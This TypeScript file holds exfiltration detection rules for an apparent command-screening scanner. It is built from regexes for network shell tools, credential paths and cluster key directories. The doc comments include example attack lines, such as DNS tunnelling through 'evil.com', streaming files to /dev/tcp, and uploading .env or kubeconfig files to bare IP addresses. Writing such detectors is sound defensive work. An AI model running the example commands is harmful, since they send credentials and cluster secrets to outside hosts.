/**
 * Exfiltration (T1041, T1048, T1567) and its preparation (T1560): data sent off the machine by any program that can
 * move bytes (HTTP clients, raw sockets, file-transfer and cloud-sync tools, DNS and ICMP), archived from places that
 * hold secrets, or encrypted with a password given on the command line.
 */
import { excerpt, FILE_DROP_HOST, isAuthenticationValue, isDisguisedDrop, isIpLiteral, isLoopback, isPublicIp, isTempPath, remoteCopyHost, SECRET_FILE, SENSITIVE_FILE, urlsIn } from '../patterns.js';
import { invocationsOf, type Subject } from '../subject.js';
import { networkRelays } from './reverse-shell.js';
import type { Evidence } from '../types.js';
import type { Rule } from './rule.js';

/** Anything that can carry bytes off the machine. */
const NETWORK_CHANNEL = /\/dev\/(?:tcp|udp)\/|\bztcp\b|socket\.|fsockopen|IO::Socket|TCPSocket|java\.net\.Socket|urlopen|urllib|requests\.(?:post|put)|http\.client|LWP::|Net::HTTP|require\s*\(?\s*["'](?:https?|net|socket)["']\)?|\b(?:curl|wget|nc|ncat|netcat|socat|s_client|whois|hping3?|nping|ftp|tftp|lftp|sendmail|mail|mutt|smbclient|finger|cancel|rlogin|restic|rclone|gsutil|azcopy)\b/;
/** Credential directories whose archive is the whole haul. */
const CREDENTIAL_DIR = /(?:^|\/)\.(?:ssh|aws|kube|gnupg|docker|azure|config\/gcloud)(?:\/|$)|\/etc\/kubernetes\/pki|\/var\/lib\/rancher\/k3s\/server\/(?:tls|db|cred)|\/var\/run\/secrets|\/run\/secrets/;
/** Users' credential directories: never archived in the course of work. */
const USER_CREDENTIAL_DIR = /(?:^|\/)\.(?:ssh|aws|kube|gnupg|docker|azure|config\/gcloud)(?:\/|$)/;
/** The cluster's state and keys: backed up to the LAN every day, sent to the internet never. */
const CLUSTER_STATE = /^\/(?:var\/lib\/rancher\/k3s\/server|var\/lib\/etcd|etc\/kubernetes\/pki|etc\/rancher)\b/;
/** Directories whose archive is a haul of secrets. */
const SENSITIVE_DIR = /(?:^|[\s'"(=])(?:\/etc|\/root|\/home|\/Users)(?=[/\s'")*]|$)|\.ssh\b|\/var\/lib\/rancher\/k3s\/server|\/etc\/kubernetes|\/var\/lib\/etcd|\/var\/run\/secrets/;
/**
 * curl `-d @file`, `-F f=@file`, `-T file`, `--data "$(cat file)"`; wget `--post-file`; ab `-p file`: a local file
 * uploaded to another host, when the file is sensitive or in a temporary directory, or the host is a bare IP or a
 * public drop box. (Posting `@alert.json` to an in-cluster API or a backup to the NAS is ordinary.)
 */
const httpUpload: Rule = {
  name: 'http-file-upload',
  category: 'data_exfiltration',
  severity: 'high',
  techniques: ['T1048.002', 'T1567', 'T1041'],
  match: (s): Evidence | undefined => {
    for (const inv of invocationsOf(s, 'curl', 'wget', 'ab', 'http', 'https', 'xh', 'lwp-request', 'POST')) {
      const file = uploadedFile(inv.program, inv.args);
      const remote = urlsIn(inv.args.join(' ')).find((u) => !isLoopback(u.host)) ?? bareRemote(inv.args);
      if (file === undefined || !remote) continue;
      const loot = SENSITIVE_FILE.test(file) || isTempPath(file) || isIpLiteral(remote.host) || FILE_DROP_HOST.test(remote.host) || /^(?:gopher|dict|tftp):/i.test(remote.url);
      if (loot) return { file, destination: remote.url.slice(0, 160) };
    }
    return undefined;
  },
};

/**
 * `wget --post-data=...`, `curl gopher://host/_DATA`, `curl -d $(... | base64) http://203.0.113.5`: data pushed to a
 * remote host by a tool scripts use to fetch, not to post; or encoded data posted to a bare address.
 */
const dataPosted: Rule = {
  name: 'data-posted-to-remote',
  category: 'data_exfiltration',
  severity: 'medium',
  techniques: ['T1048', 'T1041', 'T1132.001'],
  match: (s): Evidence | undefined => {
    for (const inv of invocationsOf(s, 'wget')) {
      const post = inv.args.find((a) => /^--(?:post|body)-(?:data|file)\b|^--method=(?:POST|PUT)$/i.test(a));
      const remote = urlsIn(inv.args.join(' ')).find((u) => !isLoopback(u.host));
      if (post !== undefined && remote) return { tool: 'wget', option: post.slice(0, 60), destination: remote.url.slice(0, 120) };
    }
    for (const inv of invocationsOf(s, 'curl')) {
      const gopher = inv.args.find((a) => /^(?:gopher|dict|telnet):\/\//i.test(a));
      if (gopher !== undefined) return { tool: 'curl', destination: gopher.slice(0, 120) };
      const data = inv.args.find((a, i) => /^(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form)$/.test(inv.args[i - 1] ?? '') && /\$\(|`|base64|xxd/.test(a));
      const remote = urlsIn(inv.args.join(' ')).find((u) => !isLoopback(u.host) && isIpLiteral(u.host));
      if (data !== undefined && remote) return { tool: 'curl', data: data.slice(0, 60), destination: remote.url.slice(0, 120) };
      const posted = inv.args.some((a) => /^(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)$/.test(a) || /^-X\s*(?:POST|PUT)$/.test(a));
      const drop = urlsIn(inv.args.join(' ')).find((u) => FILE_DROP_HOST.test(u.host));
      if (posted && drop) return { tool: 'curl', destination: drop.url.slice(0, 120) };
    }
    return undefined;
  },
};

const sensitiveFileSent: Rule = {
  name: 'credential-file-over-network',
  category: 'data_exfiltration',
  severity: 'critical',
  techniques: ['T1041', 'T1048', 'T1552.001'],
  match: (s): Evidence | undefined => {
    const file = excerpt(s.text, SENSITIVE_FILE);
    const channel = excerpt(s.text, NETWORK_CHANNEL, 40);
    if (file !== undefined && channel !== undefined && !onlyAuthenticates(s, file)) return { file, channel };
    // `cat ~/.kube/config | ssh h 'cat > x'`, `ssh h 'cat > x' < /etc/shadow`: the file's bytes fed to a remote command.
    const fed = invocationsOf(s, 'ssh').find((inv) => inv.command.redirects.some((r) => r.op === '<' && SENSITIVE_FILE.test(r.target)) || (inv.command.pipedFrom && s.invocations.some((r) => r.command.pipesTo && r.args.some((a) => SENSITIVE_FILE.test(a)))));
    if (fed) return { file: excerpt(s.text, SENSITIVE_FILE) ?? '', channel: 'ssh' };
    // Copying a kubeconfig to a laptop with scp is the K3s docs' advice; copying a password hash or key off is not.
    // The key given to `scp -i` or `rsync -e 'ssh -i ...'` authenticates the copy; it is not what is copied.
    for (const inv of invocationsOf(s, 'scp', 'rsync', 'sftp', 'sshfs', 'ftp')) {
      const operands = inv.args.filter((a, i) => !/^-[ieoFP]$/.test(inv.args[i - 1] ?? '') && !a.startsWith('-'));
      const copied = operands.find((a) => SECRET_FILE.test(a));
      if (copied !== undefined) return { file: copied, channel: inv.program };
      // `sftp u@203.0.113.9 <<< 'put ~/.kube/config'`: a transfer command fed to the client, to an address on the internet.
      const put = /^s?ftp$/.test(inv.program) ? /\bput\s+["']?(\S+?)["']?(?:\s|$)/.exec(s.text)?.[1] : undefined;
      const server = operands.map((a) => /^(?:[\w.-]+@)?(\d{1,3}(?:\.\d{1,3}){3})$/.exec(a)?.[1]).find((h) => h !== undefined);
      if (put !== undefined && SENSITIVE_FILE.test(put) && (SECRET_FILE.test(put) || (server !== undefined && isPublicIp(server)))) return { file: put, channel: inv.program, ...(server ? { destination: server } : {}) };
      // A kubeconfig or the account database pushed to an address on the internet, not to the admin's laptop or NAS.
      const destination = remoteCopyHost(operands[operands.length - 1] ?? '');
      const pushed = operands.slice(0, -1).find((a) => SENSITIVE_FILE.test(a) && remoteCopyHost(a) === undefined);
      if (pushed !== undefined && destination !== undefined && isPublicIp(destination)) return { file: pushed, channel: inv.program, destination };
    }
    return undefined;
  },
};

/**
 * True when every mention of the sensitive file only authenticates a tool (`curl --cacert`, `-E key`, `--key`,
 * `--kubeconfig`) or is a kubeconfig handed to kubectl and friends; a file redirected into a socket tool, or named in
 * code, is sent.
 */
function onlyAuthenticates(s: Subject, file: string): boolean {
  const mentions = s.invocations.flatMap((inv) => [
    ...inv.args.map((a, i) => (a.includes(file) ? isAuthenticationValue(inv.args, i) || /^(?:kubectl|helm|k3s|k9s|ssh|scp)$/.test(inv.program) : undefined)),
    ...inv.command.redirects.map((r) => (r.target.includes(file) ? false : undefined)),
  ]).filter((m) => m !== undefined);
  return mentions.length > 0 && mentions.every((m) => m);
}

/** `tar -cf - /etc`, `ssh h "(cd /etc && tar -zcvf - *)"`, `zip -r x.zip ~/.ssh`: secrets archived to a stream or staged. */
const archiveToStream: Rule = {
  name: 'sensitive-archive-to-stream',
  category: 'data_exfiltration',
  severity: 'high',
  techniques: ['T1560.001', 'T1048'],
  match: (s): Evidence | undefined => {
    const archive = excerpt(s.text, /\btar\s+(?:--?[\w=-]+\s+)*-?[A-Za-z]*c[A-Za-z]*f\s+-(?=[\s)]|$)/);
    const dir = excerpt(s.text, SENSITIVE_DIR);
    if (archive !== undefined && dir !== undefined) return { archive, source: dir.trim() };
    // `tar cf user@host:/x.tar /home --rsh-command=/bin/ssh`: the archive written straight onto another host.
    const remote = invocationsOf(s, 'tar', 'gtar').find((inv) => /^-?[A-Za-z]*c|^--create$/.test(inv.args[0] ?? '') && inv.args.some((a) => remoteCopyHost(a) !== undefined) && inv.args.some((a) => SENSITIVE_DIR.test(` ${a}`) || CREDENTIAL_DIR.test(a)));
    if (remote) return { archive: `${remote.program} to ${remote.args.find((a) => remoteCopyHost(a) !== undefined) ?? ''}`, source: remote.args.find((a) => SENSITIVE_DIR.test(` ${a}`) || CREDENTIAL_DIR.test(a)) ?? '' };
    // Users' credential directories archived anywhere; the cluster's state only into a drop location (a backup of the
    // K3s server directory to /backups is the documented procedure).
    const staged = invocationsOf(s, 'tar', 'zip', '7z', '7za', 'rar', 'gtar', 'bsdtar').find((inv) => inv.args.some((a) => USER_CREDENTIAL_DIR.test(a) || (CREDENTIAL_DIR.test(a) && inv.args.some((b) => isTempPath(b) && !CREDENTIAL_DIR.test(b)))));
    return staged ? { archive: staged.program, source: staged.args.find((a) => CREDENTIAL_DIR.test(a)) ?? '' } : undefined;
  },
};

/**
 * `aws s3 cp ~/.ssh s3://x --recursive`, `rclone copy /var/lib/rancher/k3s/server remote:`, `restic backup -r rest:http://...
 * /etc/shadow`: credentials or the cluster's keys synced to storage outside the node.
 */
const cloudSync: Rule = {
  name: 'secrets-synced-off-host',
  category: 'data_exfiltration',
  severity: 'high',
  techniques: ['T1567.002', 'T1537'],
  match: (s): Evidence | undefined => {
    for (const inv of invocationsOf(s, 'aws', 'rclone', 'gsutil', 'azcopy', 'restic', 'mc', 's3cmd', 'gcloud', 'rsync', 'lftp', 'smbclient', 'tftp', 'ftp')) {
      // Backups of /etc or of etcd snapshots to the NAS are ordinary; user credentials and the cluster's keys are not.
      const operands = inv.args.filter((a, i) => !a.startsWith('-') && !/^(?:-e|--rsh|-i|--identity|--password-file)$/.test(inv.args[i - 1] ?? ''));
      const source = operands.find((a) => (CREDENTIAL_DIR.test(a) && !/\/server\/db\b/.test(a)) || SECRET_FILE.test(a));
      const remote = inv.args.some((a) => /^(?:s3|gs|az|https?|rest:https?|sftp|ftp):\/\/|^[\w-]+:[\w./-]*$|^\/\/|^\\\\|@[\w.-]+:|^put$/.test(a) || /\bput\b/.test(a));
      if (source !== undefined && remote) return { tool: inv.program, source };
      // The cluster's state (datastore, keys, tokens) sent to an address on the internet or a drop box.
      const state = operands.find((a) => CLUSTER_STATE.test(a));
      const outside = inv.args.map((a) => urlsIn(a.replace(/^rest:/, ''))[0]?.host ?? remoteCopyHost(a)).find((h) => h !== undefined && (isPublicIp(h) || FILE_DROP_HOST.test(h)));
      if (state !== undefined && outside !== undefined) return { tool: inv.program, source: state, destination: outside };
    }
    return undefined;
  },
};

/** A web server rooted at `/` or at a directory of secrets, or the API server proxied to every interface. */
const rootFilesystemServed: Rule = {
  name: 'filesystem-served-over-http',
  category: 'data_exfiltration',
  severity: 'high',
  techniques: ['T1048.003', 'T1567'],
  match: (s): Evidence | undefined => {
    for (const inv of s.invocations) {
      const text = ` ${inv.args.join(' ')} `;
      const isServer = inv.program === 'httpd' || /http\.server|SimpleHTTPServer|-run\s+-e\s+httpd|\bhttpd\b/.test(text) || (inv.program === 'php' && text.includes(' -S ')) || (inv.program === 'kubectl' && inv.args[0] === 'proxy') || /^(?:tailscale|ngrok|cloudflared)$/.test(inv.program) && /\b(?:serve|funnel|http)\b/.test(text);
      if (!isServer) continue;
      const root = excerpt(text, /\s(?:-h|-d|-t|--www|--directory|--root|serve\s+--\w+=\d+|--http=\d+)[=\s]+(?:\/|\/etc|\/root|\/home|\/var\/lib\/rancher\S*|\S*\.ssh\S*|\S*k3s\.yaml)(?=\s)/) ?? excerpt(text, /\s--address[=\s]+0\.0\.0\.0(?=\s)/)
        // `ruby -run -e httpd / -p 80`: the document root given as the server's operand.
        ?? excerpt(text, /\shttpd\s+(?:\/|\/etc|\/root|\/home)\/?(?=\s)/);
      if (root !== undefined) return { server: inv.program, option: root.trim() };
    }
    return undefined;
  },
};

/** A one-line web server: Python's http.server, Ruby's un httpd, PHP's built-in server, busybox httpd. */
const ONE_LINE_SERVER = /(?:^|\s)-m\s+(?:http\.server|SimpleHTTPServer)\b|-run\s+-e\s+httpd\b|^-S\s|\s-S\s|^httpd\b/;
/**
 * Directories whose serving exposes the host, or that were not chosen (`.`): the root, homes, /etc, /var, the temporary
 * and runtime directories, anything under /etc, /root or K3s' state. (`--directory ./site` or `/data/reports` is a
 * choice of what to publish.)
 */
const EXPOSING_DIRECTORY = /^(?:\/|\/(?:root|etc|home(?:\/[^/]+)?|var(?:\/lib)?|tmp|var\/tmp|dev\/shm|run|proc|srv)|~|\$\{?HOME\}?|\.\.?)\/?$|^\/(?:etc|root)\/|^\/var\/lib\/rancher\/|\/\.(?:ssh|kube|aws|docker|gnupg)\b/;

/** The directory a one-line server is told to serve, when one is named (`--directory X`, ruby's `httpd X`, `-h X`, php's `-t X`). */
function servedDirectory(args: readonly string[]): string | undefined {
  const option = args.findIndex((a) => /^(?:--directory|-d|-h|-t)$/.test(a));
  if (option >= 0) return args[option + 1];
  const inline = args.find((a) => a.startsWith('--directory='));
  if (inline !== undefined) return inline.slice('--directory='.length);
  const httpd = args.indexOf('httpd');
  return httpd >= 0 && args[httpd + 1] !== undefined && !args[httpd + 1].startsWith('-') ? args[httpd + 1] : undefined;
}

/**
 * The current directory, or one that exposes the host, served to every interface by a one-line web server (Sigma's
 * "Python WebServer Execution"): files leave by plain HTTP (T1048.003). Developers do it too, so it is reported low;
 * bound to loopback, or serving a directory chosen for publishing, it is quiet.
 */
const directoryServed: Rule = {
  name: 'directory-served-over-http',
  category: 'data_exfiltration',
  severity: 'low',
  techniques: ['T1048.003'],
  match: (s): Evidence | undefined => {
    for (const inv of s.invocations) {
      const text = inv.args.join(' ');
      // busybox is a launcher, so its applet is the program: `busybox httpd -f -p 4444 -h .` (Apache's httpd has no -p).
      const server = (/^(?:python[\d.]*|ruby[\d.]*|php[\d.]*|busybox)$/.test(inv.program) && ONE_LINE_SERVER.test(text)) || (inv.program === 'httpd' && inv.args.includes('-p') && inv.args.includes('-h'));
      const served = server ? servedDirectory(inv.args) : undefined;
      const published = served !== undefined && !EXPOSING_DIRECTORY.test(served.replace(/^["']|["']$/g, ''));
      if (server && !published && !/(?:^|[\s=:])(?:127\.0\.0\.1|localhost|::1|\[::1\])(?=[\s:]|$)/.test(text)) return { server: `${inv.program} ${text}`.slice(0, 120) };
      // The same written as code (`ss.TCPServer(("", 4444), s.SimpleHTTPRequestHandler)`), on every interface.
      const code = /^python[\d.]*$/.test(inv.program) ? excerpt(text, /\(\s*\(\s*["'](?:0\.0\.0\.0)?["']\s*,\s*\d+\s*\)\s*,\s*[\w.]*SimpleHTTPRequestHandler/) : undefined;
      if (code !== undefined) return { server: code };
    }
    return undefined;
  },
};

/**
 * `scp -P 2222 ./.env backup@91.219.236.40:/srv/`, `rsync -a /data u@203.0.113.9:/x`: local files pushed to a host
 * known only by an internet address (T1048). Cloud machines are reached that way too, so it is low.
 */
const pushedToBareAddress: Rule = {
  name: 'files-pushed-to-bare-address',
  category: 'data_exfiltration',
  severity: 'low',
  techniques: ['T1048'],
  match: (s): Evidence | undefined => {
    for (const inv of invocationsOf(s, 'scp', 'rsync', 'pscp', 'sftp')) {
      const operands = inv.args.filter((a, i) => !a.startsWith('-') && !/^-[PiFeoSl]$/.test(inv.args[i - 1] ?? ''));
      const destination = remoteCopyHost(operands[operands.length - 1] ?? '');
      const local = operands.slice(0, -1).some((a) => remoteCopyHost(a) === undefined);
      if (destination !== undefined && isPublicIp(destination) && local) return { tool: inv.program, destination };
    }
    return undefined;
  },
};

/** `split -b 5M /var/tmp/.x/a.tgz /var/tmp/.x/c.`: an archive staged in a drop location cut into pieces small enough to slip out. */
const archiveSplit: Rule = {
  name: 'staged-archive-split',
  category: 'data_exfiltration',
  severity: 'medium',
  techniques: ['T1030', 'T1074.001'],
  match: (s): Evidence | undefined => {
    // The archive in a drop location, or its pieces written into one (`split -b 5M /tmp/dump.sql.gz /dev/shm/part_`).
    const split = invocationsOf(s, 'split').find((inv) => inv.args.some((a) => /\.(?:t?gz|tar|zip|7z|xz|bz2|zst)$/.test(a)) && inv.args.some((a) => isDisguisedDrop(a)));
    return split ? { tool: 'split', archive: split.args.find((a) => isDisguisedDrop(a)) ?? '' } : undefined;
  },
};

/** `openssl enc -pass pass:...`, `zip -P`, `7z -p...`, `gpg --passphrase`: data encrypted with a password on the command line before it leaves. */
const encryptWithInlinePassword: Rule = {
  name: 'encrypt-with-inline-password',
  category: 'data_exfiltration',
  severity: 'medium',
  techniques: ['T1560.001', 'T1486', 'T1027.013'],
  match: (s): Evidence | undefined => {
    const openssl = invocationsOf(s, 'openssl').find((inv) => /^(?:enc|aes-\d+-\w+|des\w*|rsautl|pkeyutl)$/.test(inv.args[0] ?? '') && (inv.args.some((a) => /^pass:/.test(a) || a === '-k') || (/^(?:rsautl|pkeyutl)$/.test(inv.args[0] ?? '') && inv.args.includes('-encrypt'))));
    if (openssl) return { tool: 'openssl', cipher: openssl.args.find((a) => /^-aes|^-des|^-chacha/.test(a)) ?? openssl.args[0] };
    // Creating or opening a password-protected archive (T1027.013: payloads ship in one to pass scanners).
    const archiver = invocationsOf(s, 'zip', 'unzip', '7z', '7za', 'rar', 'unrar').find((inv) => inv.args.some((a) => a === '-P' || a === '--password' || /^-p\S+/.test(a)));
    if (archiver) return { tool: archiver.program, option: 'password on command line' };
    const gpg = invocationsOf(s, 'gpg', 'gpg2', 'ccencrypt', 'ccrypt').find((inv) => inv.args.some((a) => /^--passphrase(?:-fd)?(?:=|$)|^-K$/.test(a)) && inv.args.some((a) => /^-c$|^--symmetric$|^-[a-zA-Z]*e/.test(a) || inv.program.startsWith('cc')));
    return gpg ? { tool: gpg.program, option: 'passphrase on command line' } : undefined;
  },
};

function uploadedFile(program: string, args: readonly string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const [a, next] = [args[i], args[i + 1] ?? ''];
    if (program === 'curl' && /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|-F|--form)$/.test(a)) {
      if (/(?:^|=)@[^\s]+/.test(next)) return next.replace(/^.*?@/, '').replace(/["';].*$/, '');
      // `--data "$(cat /tmp/loot.txt)"`, `-d "{\"text\":\"$(</etc/passwd)\"}"`: a file's content inlined.
      const inlined = /\$\(\s*(?:cat\s+|<\s*)([^\s)]+)|`cat\s+([^\s`]+)`/.exec(next);
      if (inlined) return inlined[1] ?? inlined[2];
    }
    if (program === 'curl' && (a === '-T' || a === '--upload-file')) return next;
    if (program === 'wget' && /^--(?:post|body)-file(?:=|$)/.test(a)) return a.includes('=') ? a.slice(a.indexOf('=') + 1) : next;
    if (program === 'ab' && (a === '-p' || a === '-u')) return next;
    if (program.startsWith('http') && /^[\w-]+@[^\s]+$/.test(a)) return a.slice(a.indexOf('@') + 1);
  }
  return undefined;
}

/** A destination written without a scheme (`curl -T f 203.0.113.5:8080`). */
function bareRemote(args: readonly string[]): { url: string; host: string } | undefined {
  const arg = args.find((a) => /^(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:\/\S*)?$/.test(a));
  return arg === undefined ? undefined : { url: arg, host: arg.replace(/[:/].*$/, '') };
}

/** Data carried in DNS names (`dig $(base64 f).evil.com`, `nslookup $(whoami).x.io`) or ICMP padding (`ping -p <hex>`). */
const covertChannel: Rule = {
  name: 'dns-icmp-covert-channel',
  category: 'data_exfiltration',
  severity: 'high',
  techniques: ['T1048.003', 'T1071.004', 'T1132.001'],
  match: (s): Evidence | undefined => {
    // A label made of command output (`$(whoami).x.oast.fun`), or of a variable when the line encodes data for it
    // (`xxd -p f > x; for d in $(cat x); do dig $d.ns1.example.cc`); `dig $h.cluster.local` in a loop is a lookup.
    const variable = /\b(?:xxd|base64|base32|basenc|od|hexdump)\b/.test(s.text) ? String.raw`|\$\{?\w+\}?` : '';
    const substitution = String.raw`(?:\$\([^)]*\)|\`[^\`]*\`${variable})(?:\.(?:\$\([^)]*\)${variable}))*\.[\w-]+\.[a-z]{2,}\b`;
    const dns = excerpt(s.text, new RegExp(String.raw`\b(?:dig|nslookup|host|drill|ping)\b[^|;]*?(?:\s|@)${substitution}|\b(?:curl|wget)\b[^|;]*?:\/\/(?:[\w-]+\.)*${substitution}`))
      ?? excerpt(s.text, /\b(?:dig|nslookup|host|drill)\b[^|;]*(?:\$\(|`)[^)`]*\b(?:base64|base32|xxd|od|hexdump)\b/);
    if (dns !== undefined) return { dns };
    // A host name whose first label is encoded data: a long base32/hex run, or base64 with its `=` padding.
    // (A DNS label has no `/`: `/tmp/s6-overlay-binaries.tar.xz` is a file name, not a host.)
    const encoded = s.invocations.filter((inv) => /^(?:dig|nslookup|host|drill|ping|curl|wget)$/.test(inv.program)).flatMap((inv) => inv.args).find((a) => /^(?:https?:\/\/|@)?(?:[A-Za-z0-9_-]{24,}|[A-Za-z0-9+_-]{8,}={1,2})\.[\w-]+\.[a-z]{2,}\b/.test(a) && (/\d/.test(a.split('.')[0]) || /=\./.test(a)));
    if (encoded !== undefined) return { encodedHost: encoded.slice(0, 120) };
    const ping = invocationsOf(s, 'ping', 'hping3', 'nping').find((inv) => inv.args.some((a, i) => /^-p$|^--data$|^-E$|^--file$/.test(inv.args[i - 1] ?? '') && /\$|^[0-9a-f]{8,}$/i.test(a)));
    return ping ? { icmp: `${ping.program} ${ping.args.join(' ')}`.slice(0, 120) } : undefined;
  },
};

/** `nc host port < file`, `tar c dir | nc host port`, `cat f > /dev/tcp/h/p`: a file streamed to a raw socket. */
const fileToRawSocket: Rule = {
  name: 'file-streamed-to-socket',
  category: 'data_exfiltration',
  severity: 'high',
  techniques: ['T1048', 'T1041'],
  match: (s) => {
    // A fifo in /tmp feeding the relay is a reverse shell's plumbing (reported as such); any other file is data sent.
    const fifo = /\bmk(?:fifo|nod)\b/.test(s.text);
    for (const relay of networkRelays(s)) {
      const input = relay.command.redirects.find((r) => r.op === '<' && r.target && !(fifo && isTempPath(r.target)) && !r.target.startsWith('/dev/'))?.target ?? pipedArchive(s, relay.command.pipedFrom);
      const host = relay.args.find((a) => !a.startsWith('-') && !/^\d+$/.test(a));
      if (input !== undefined && host !== undefined && !isLoopback(host.replace(/^tcp[46]?(?:-connect)?:|:\d+$/gi, ''))) return { tool: relay.program, input, host };
    }
    const devTcp = s.invocations.find((inv) => /^(?:cat|tar|base64|xxd|gzip|dd|zip)$/.test(inv.program) && inv.args.some((a) => !a.startsWith('-')) && inv.command.redirects.some((r) => />/.test(r.op) && /^\/dev\/(?:tcp|udp)\//.test(r.target)));
    return devTcp ? { tool: devTcp.program, input: devTcp.args.join(' ').slice(0, 80), host: devTcp.command.redirects.find((r) => /^\/dev\//.test(r.target))?.target ?? '' } : undefined;
  },
};

/** The reader or archiver feeding a pipe, when one does. */
function pipedArchive(s: Subject, pipedFrom: boolean): string | undefined {
  if (!pipedFrom) return undefined;
  const feeder = s.invocations.find((inv) => inv.command.pipesTo && /^(?:cat|tar|zip|gzip|base64|xxd|dd)$/.test(inv.program) && inv.args.some((a) => !a.startsWith('-') || a === '-'));
  return feeder ? `${feeder.program} ${feeder.args.join(' ')}`.slice(0, 120) : undefined;
}

export const DATA_EXFILTRATION_RULES: readonly Rule[] = [
  covertChannel, fileToRawSocket, httpUpload, sensitiveFileSent, archiveToStream, cloudSync, rootFilesystemServed, directoryServed, pushedToBareAddress, archiveSplit, dataPosted, encryptWithInlinePassword,
];
